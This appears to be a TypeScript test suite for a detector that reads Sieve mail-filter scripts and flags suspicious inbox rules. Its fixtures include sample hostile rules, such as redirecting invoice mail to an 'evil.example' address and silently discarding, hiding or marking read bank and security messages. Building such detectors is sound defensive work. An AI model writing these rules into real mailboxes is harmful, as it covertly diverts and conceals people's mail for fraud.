import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { isSuspicious, judgeInboxRules } from '../../src/respond/inbox-rules.js';
import { sieveActions } from '../../src/respond/index.js';
import { sieveIncludes } from '../../src/respond/sieve-rules.js';

const org = {
  isInternalDomain: (domain: string) => domain === 'example.org',
  trashFolders: ['Trash', 'Deleted Items'],
};
const kinds = (script: string) =>
  judgeInboxRules(script, org).map((finding) => [finding.kind, finding.target]);

describe('reading what a Sieve script does to incoming mail', () => {
  test('a rule that forwards outside the org is external forwarding, whatever test guards it', () => {
    assert.deepEqual(
      kinds(
        'require ["copy"];\nif header :contains "subject" "invoice" { redirect :copy "Boss@Evil.example"; }',
      ),
      [['external-forwarding', 'boss@evil.example']],
    );
  });

  test('forwarding inside the org is reported but is not suspicious', () => {
    const findings = judgeInboxRules('redirect "bob@example.org";', org);
    assert.deepEqual(
      findings.map((finding) => finding.kind),
      ['internal-forwarding'],
    );
    assert.equal(isSuspicious(findings), false);
    assert.equal(isSuspicious(judgeInboxRules('redirect "bob@example.org"; discard;', org)), true);
  });

  test('a target made of variables cannot be placed, so it counts as leaving the org', () => {
    const variable = '$' + '{to}'; // Sieve's variable syntax, not a template placeholder
    assert.deepEqual(kinds(`require "variables"; set "to" "x@evil.example"; redirect "${variable}";`), [
      ['external-forwarding', variable],
    ]);
  });

  test('hiding mail: discard, reject, the trash, a rarely used folder, marking read, flagging deleted', () => {
    const script = [
      'require ["fileinto", "imap4flags", "reject"];',
      'if address :is "from" "bank@victim.example" { discard; stop; }',
      'if header :contains "subject" "payment" { fileinto "RSS Feeds"; }',
      'elsif header :contains "subject" "wire" { fileinto "Deleted Items"; }',
      'elsif header :contains "subject" "alert" { fileinto "."; }',
      'if header :contains "subject" "security" { addflag ["\\\\Seen", "\\\\Deleted"]; }',
      'if size :over 1M { reject "too big"; }',
      'fileinto "Projects";',
    ].join('\n');
    assert.deepEqual(kinds(script), [
      ['deletes-mail', null],
      ['moves-to-rarely-used-folder', 'RSS Feeds'],
      ['deletes-mail', 'Deleted Items'],
      ['moves-to-rarely-used-folder', '.'],
      ['marks-read', '\\Seen'],
      ['deletes-mail', '\\Deleted'],
      ['rejects-mail', null],
      ['moves-mail', 'Projects'],
    ]);
  });

  test('comments, strings that look like commands, and multi-line text: strings are not actions', () => {
    const script = [
      '# redirect "commented@out.example";',
      '/* discard; */',
      'if header :contains "subject" "discard; redirect \\"x@y.z\\"" {',
      '  vacation :days 1 text:',
      'I am away.',
      'redirect "not@a-command.example";',
      '..',
      '.',
      ';',
      '}',
      'keep;',
    ].join('\n');
    assert.deepEqual(
      sieveActions(script).map((action) => action.command),
      ['vacation', 'keep'],
    );
    assert.equal(sieveActions(script)[0]?.strings[0], 'I am away.\nredirect "not@a-command.example";\n.\n');
    assert.deepEqual(kinds(script), []);
  });

  test('personal includes are followed, global ones are the admin’s', () => {
    assert.deepEqual(sieveIncludes('require "include"; include :personal "evil"; include :global "spam";'), [
      'evil',
    ]);
  });

  test('garbage yields what could be read and never throws', () => {
    for (const garbage of [
      '',
      '"unterminated',
      '/* open',
      'redirect',
      'text:\nno end',
      '{{{;;}}}',
      '\u0000\uffff',
    ])
      assert.doesNotThrow(() => judgeInboxRules(garbage, org), garbage);
    assert.deepEqual(kinds('redirect "a@evil.example"'), [['external-forwarding', 'a@evil.example']]);
  });
});
